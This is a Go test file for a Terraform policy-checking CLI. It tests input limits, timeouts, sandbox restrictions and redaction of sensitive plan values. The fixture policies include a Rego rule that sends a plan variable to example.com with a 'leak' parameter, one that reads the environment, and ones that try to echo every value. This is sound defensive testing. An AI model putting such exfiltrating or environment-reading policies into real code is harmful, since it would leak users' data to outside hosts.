package main

import (
	"path/filepath"
	"strings"
	"testing"
)

// Inputs over a limit, a runaway policy and a policy that leaves the
// sandbox: exit 2 with one line on stderr naming the cause; no output.
func TestLimitsTimeoutAndSandboxExit2(t *testing.T) {
	root := repoRoot(t)
	planFile := filepath.Join(root, "fixtures", "tagging", "plan.json")
	tagging := filepath.Join(root, "fixtures", "tagging")
	dir := t.TempDir()
	slow := writePolicy(t, dir, "slow", `# METADATA
# title: Runs away
# custom:
#   id: ACME-AWS-SLOW-001
#   severity: low
package tfgate.rules.acme.slow.loop

deny contains {"resource": "x", "message": "never"} if {
	some x in numbers.range(1, 3000)
	some y in numbers.range(1, 3000)
	some z in numbers.range(1, 3000)
	x * y * z == -1
}
`)
	net := writePolicy(t, dir, "net", `package main

deny contains sprintf("%v", [r]) if {
	r := http.send({"method": "get", "url": "https://example.com/?leak=" + input.variables.owner.value})
}
`)
	env := writePolicy(t, dir, "env", `package acme.env

resource_types := {"*"}

default allow := true

allow := false if opa.runtime().env.HOME

message := "reads the environment"
`)
	cases := []struct {
		name string
		args []string
		want string // the whole of stderr
	}{
		{"resources", []string{"check", planFile, "--limit", "resources=2"},
			planFile + " has 5 resource instances, more than the resources limit of 2: if the input is genuine, raise the limit with --limit resources=5"},
		{"input size, inspect", []string{"inspect", planFile, "--limit", "input-size=1KiB"},
			planFile + " is 8.7 KiB, more than the input-size limit of 1 KiB: if the input is genuine, raise the limit with --limit input-size=1MiB"},
		{"file size", []string{"check", tagging, "--limit", "file-size=1KiB"},
			filepath.Join(tagging, "main.tf") + " is 1.3 KiB, more than the file-size limit of 1 KiB: if the input is genuine, raise the limit with --limit file-size=1MiB"},
		{"unknown limit", []string{"check", planFile, "--limit", "memory=1GiB"},
			`--limit no limit "memory" (limits: input-size, file-size, resources, string-size, depth, instances)`},
		{"bad limit value", []string{"check", planFile, "--limit", "depth=deep"},
			`--limit depth: "deep" is not a positive whole number`},
		{"negative timeout", []string{"check", planFile, "--timeout", "-1s"},
			`--timeout -1s: give a positive duration (30s, 5m) or 0 for none`},
		{"timeout", []string{"check", planFile, "-p", slow, "--timeout", "1s", "--format", "sarif"},
			"evaluate " + planFile + ": policy evaluation stopped after 1s (--timeout) while running your policy " + filepath.Join(slow, "p.rego") + ":1 (package tfgate.rules.acme.slow.loop): a policy that runs this long is likely stuck (an iteration over a huge range or a join of every resource with every other); fix it, or raise --timeout (0: none) if the input is that large"},
		{"network", []string{"check", planFile, "-p", net, "--policy-input", "plan-json"},
			"compile policies: " + filepath.Join(net, "p.rego") + ":4: http.send is not allowed in tfgate policies: they may not reach the network"},
		{"environment", []string{"check", planFile, "-p", env},
			"compile policies: " + filepath.Join(env, "p.rego") + ":7: opa.runtime is not allowed in tfgate policies: they may not read the environment or tfgate's own configuration"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			code, out, errs := run(t, "", c.args...)
			if code != exitError {
				t.Errorf("exit %d, want %d", code, exitError)
			}
			if got := strings.TrimSuffix(errs, "\n"); got != "tfgate: "+c.want {
				t.Errorf("stderr:\n%s\nwant:\n%s", got, "tfgate: "+c.want)
			}
			if out != "" {
				t.Errorf("stdout: %q", out)
			}
		})
	}
}

// Policies that put every value they see into their messages, through the
// real CLI in every format: no sensitive value of fixtures/sensitive shows
// (a password, a sensitive tag value repeated unmarked in tags_all, and a
// provider secret key the AWS provider does not mark sensitive).
func TestPolicyMessagesNeverLeakSensitiveValues(t *testing.T) {
	root := repoRoot(t)
	planFile := filepath.Join(root, "fixtures", "sensitive", "plan.json")
	dir := t.TempDir()
	doc := writePolicy(t, dir, "doc", `# METADATA
# title: Echo
# custom:
#   id: ACME-AWS-ECHO-001
#   severity: low
package tfgate.rules.acme.echo.all

deny contains {"resource": r.address, "message": sprintf("%v", [s])} if {
	some r in input.resources
	walk(r, [_, s])
	is_string(s)
}
`)
	raw := writePolicy(t, dir, "raw", `package main

deny contains json.marshal(input) if true

deny contains sprintf("%v", [s]) if {
	walk(input, [_, s])
	is_string(s)
}
`)
	secrets := []string{"Fixture-S3cr3t-Pa55word", "secret-owner-alice", "fixture-secret-key-not-real"}
	for _, format := range []string{"text", "json", "sarif", "github", "markdown", "junit"} {
		for _, policy := range [][]string{{"-p", doc}, {"-p", raw, "--policy-input", "plan-json"}} {
			checkNoLeak(t, append([]string{"check", planFile, "--format", format}, policy...), secrets)
		}
	}
}

func checkNoLeak(t *testing.T, args, secrets []string) {
	t.Helper()
	format := strings.Join(args, " ")
	{
		code, out, errs := run(t, "", args...)
		if code != exitFindings {
			t.Fatalf("%s: exit %d: %s", format, code, errs)
		}
		if !strings.Contains(out, "(sensitive)") {
			t.Errorf("%s: no redacted value in the output: the policies did not see the values", format)
		}
		for _, s := range secrets {
			if strings.Contains(out, s) || strings.Contains(errs, s) {
				t.Errorf("%s: the output shows %q", format, s)
			}
		}
	}
}
